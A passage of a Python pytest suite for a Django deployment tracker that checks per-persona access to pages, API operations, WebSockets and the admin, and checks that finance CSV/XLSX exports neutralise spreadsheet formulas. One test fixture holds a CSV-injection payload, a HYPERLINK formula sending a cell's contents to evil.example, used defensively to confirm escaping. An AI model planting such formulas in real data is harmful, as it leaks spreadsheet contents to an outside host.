    pages = {d.route for d in DOORS if not d.api}
    missing = sorted(f"{m} {name}" for name in pages for m in (GET, POST) if (name, m) not in tried)
    assert not missing, f"pages without a row for: {missing}"


def test_every_api_operation_has_a_row_and_every_row_an_operation(schema_operations: set[str]) -> None:
    rows = [d.id for d in DOORS if d.api]
    assert len(rows) == len(set(rows)), "an operation has two rows"
    assert not schema_operations - set(rows), (
        f"operations without a row: {sorted(schema_operations - set(rows))}"
    )
    assert not set(rows) - schema_operations, (
        f"rows for no operation: {sorted(set(rows) - schema_operations)}"
    )


def test_every_websocket_route_has_a_row_and_every_row_a_route() -> None:
    routes = {str(p.pattern) for p in websocket_urlpatterns}
    rows = {d.route for d in WEBSOCKETS}
    assert routes == rows, (
        f"without a row: {sorted(routes - rows)}; no longer routed: {sorted(rows - routes)}"
    )


def test_the_admin_sample_lies_in_the_admin() -> None:
    admin_routes = {name for name, _ in walk(get_resolver().url_patterns) if name.startswith("admin:")}
    assert len(admin_routes) > 50, "the admin is mounted with its models"
    for d in ADMIN_SAMPLE:
        assert d.route in admin_routes, d.route
        assert set(d.expect) == {"admin"}, (
            f"{d.id}: the admin's rule is one outcome for every non-staff persona"
        )


# --- The matrix ----------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("persona", PERSONAS)
def test_each_persona_gets_exactly_what_the_table_says(records: Records, persona: str) -> None:
    """One world per persona; each door in a savepoint rolled back, so each meets it unchanged."""
    column = PERSONAS.index(persona)
    client = client_for(persona, records)
    problems = [
        p for d in [*DOORS, *ADMIN_SAMPLE] for p in cell(client, d, persona, d.expect[column], records)
    ]
    assert not problems, "\n".join(problems)


def test_every_shown_cell_is_a_cell_of_the_table() -> None:
    doors = {d.id for d in [*DOORS, *WEBSOCKETS]}
    assert not {door_id for door_id, _ in SHOWN} - doors
    assert {persona for _, persona in SHOWN} <= set(PERSONAS)


# --- WebSockets ----------------------------------------------------------------------------------

BROWSER = [(b"origin", b"http://localhost")]  # a browser on our own host, without a session


def handshakes(r: Records) -> dict[str, list[tuple[bytes, bytes]]]:
    """Each persona's handshake headers: an API token, or for anonymous a browser without a session."""
    headers = {"anonymous": BROWSER}
    for persona in PERSONAS[1:]:
        token, _ = Token.objects.get_or_create(user=r.user(persona))
        headers[persona] = [(b"authorization", f"Token {token.key}".encode())]
    return headers


async def ws_cell(
    d: Door, persona: str, expected: str, r: Records, headers: list[tuple[bytes, bytes]]
) -> list[str]:
    """Connect as `persona` asking for a replay of everything (`?since=0`)."""
    from deploy_tracker.asgi import application

    values = {name: r.ref(attr) for name, attr in d.kwargs.items()}
    path = "/" + re.sub(r"<(?:\w+:)?(\w+)>", lambda m: values[m.group(1)], d.route) + "?since=0"
    communicator = WebsocketCommunicator(application, path, headers=headers)
    connected, _ = await communicator.connect()
    if not connected:
        return [f"{d.id} as {persona}: expected {expected}, the handshake was refused"]
    first = await communicator.receive_output(timeout=3)
    if first["type"] == "websocket.close":
        got, text = str(first["code"]), ""
    else:
        got, text = "open", first.get("text", "").lower()
        await communicator.disconnect()
    problems = [f"{d.id} as {persona}: expected {expected}, got {got}"] if got != expected else []
    return problems + scan(d, persona, persona, text)


@pytest.fixture
def ws_headers(records: Records) -> dict[str, list[tuple[bytes, bytes]]]:
    return handshakes(records)


@pytest.mark.django_db(transaction=True)
@pytest.mark.asyncio
async def test_each_persona_gets_exactly_what_the_table_says_on_websockets(
    records: Records, ws_headers: dict[str, list[tuple[bytes, bytes]]]
) -> None:
    """The real ASGI application; members get the incident's replay, responders their own."""
    try:
        problems = [
            p
            for d in WEBSOCKETS
            for persona, expected in zip(PERSONAS, d.expect, strict=True)
            for p in await ws_cell(d, persona, expected, records, ws_headers[persona])
        ]
    finally:
        # The consumers ran their queries in asgiref's thread; its connection would outlive the
        # test (PostgreSQL then refuses to drop the test database).
        await sync_to_async(connections.close_all)()
    assert not problems, "\n".join(problems)


# --- The admin's rule, and the spreadsheets ------------------------------------------------------


@pytest.mark.django_db
def test_a_superuser_opens_the_admin_sample(records: Records, client: Client) -> None:
    """So the sample's redirect is the admin's rule at work, not an address that broke."""
    client.force_login(records.world.superuser)
    for d in ADMIN_SAMPLE:
        if d.method == GET:
            assert client.get(path_of(d, records)).status_code == 200, d.id


FORMULAS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.django_db
def test_a_finance_export_neutralises_formulas_typed_by_people(records: Records, client: Client) -> None:
    """A name and a facility code that a spreadsheet would run arrive as text with a leading
    quote (reports.writers.neutralise), in the CSV and in the workbook downloaded from the API."""
    records.alice.last_name = '=HYPERLINK("http://evil.example/?x="&A1,"Pay")'
    records.alice.save()
    records.alice_site.code = "+ALICE-REC-7C1"
    records.alice_site.save()
    client.force_login(records.world.finance)
    url = reverse("api-report", args=["finance"])

    answer = client.get(url, {"incident": "WA-2026-01", "format": "csv", "sheet": "labor"})
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert any(c.startswith("'=HYPERLINK(") for c in cells), rows
    assert "'+ALICE-REC-7C1" in cells
    assert not [c for c in cells if c.startswith(FORMULAS)]

    answer = client.get(url, {"incident": "WA-2026-01", "format": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(b"".join(answer.streaming_content)))
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"]
    assert any(t.startswith("'=HYPERLINK(") for t in texts)
    assert not [t for t in texts if t.startswith(FORMULAS)]
    # The workbook's own formulas (the summary's sums) are formulas; none came from people's text.
    formulas = [
        c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert not [f for f in formulas if "HYPERLINK" in f or "ALICE" in f]
